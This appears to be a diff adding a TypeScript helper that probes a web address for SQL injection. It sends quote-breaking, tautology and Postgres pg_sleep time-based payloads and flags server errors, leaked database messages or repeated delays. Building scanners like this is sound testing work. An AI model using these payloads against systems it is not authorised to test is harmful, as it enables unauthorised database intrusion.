@@ -1,0 +1,46 @@
+/** Asks for an address below the root of a server; gives status and text. */
+export type Ask = (address: string) => Promise<{ status: number; text: string }>;
+
+const SLEEP = 1_200;
+/** Values that break out of a quoted text, of a bare number, of a list, of a sort; the last of each pair sleeps where it is executed. */
+const PAYLOADS = [
+  `'`,
+  `"`,
+  `\\'`,
+  `1'1`,
+  `x' or '1'='1`,
+  `1 or 1=1`,
+  `1) or (1=1`,
+  `{x}' or true--`,
+  `x'; select pg_sleep(1.2)--`,
+  `1; select pg_sleep(1.2)--`,
+  `x' || (select pg_sleep(1.2)) || '`,
+  `1 and 1=(select 1 from pg_sleep(1.2))`,
+  `title desc, (select pg_sleep(1.2))`,
+  `(select case when true then pg_sleep(1.2) end)`,
+];
+const LEAKS =
+  /syntax error|unterminated|pg_|postgres|relation "|column "|QueryFailed|at character \d|invalid input syntax/i;
+
+/**
+ * Tries SQL in one value of an address. A finding is an answer of 500 and more, words of the database in an answer, or a sleep that was slept (asked for
+ * twice, so that a slow machine is no finding).
+ */
+export async function probeInjection(ask: Ask, address: (value: string) => string): Promise<string[]> {
+  const findings: string[] = [];
+  for (const payload of PAYLOADS) {
+    const once = async () => {
+      const begun = performance.now();
+      const { status, text } = await ask(address(payload));
+      return { status, text: text.replaceAll(payload, ''), ms: performance.now() - begun };
+    };
+    const { status, text, ms } = await once();
+    // An answer may repeat what was asked for; the rest of it must not speak of the database.
+    if (status >= 500) findings.push(`${address(payload)}: status ${status}`);
+    else if (status >= 400 && LEAKS.test(text.replace(/pg_sleep\([^)]*\)/g, '')))
+      findings.push(`${address(payload)}: ${text.slice(0, 200)}`);
+    if (payload.includes('pg_sleep') && ms >= SLEEP && (await once()).ms >= SLEEP && (await once()).ms >= SLEEP)
+      findings.push(`${address(payload)}: slept`);
+  }
+  return findings;
+}
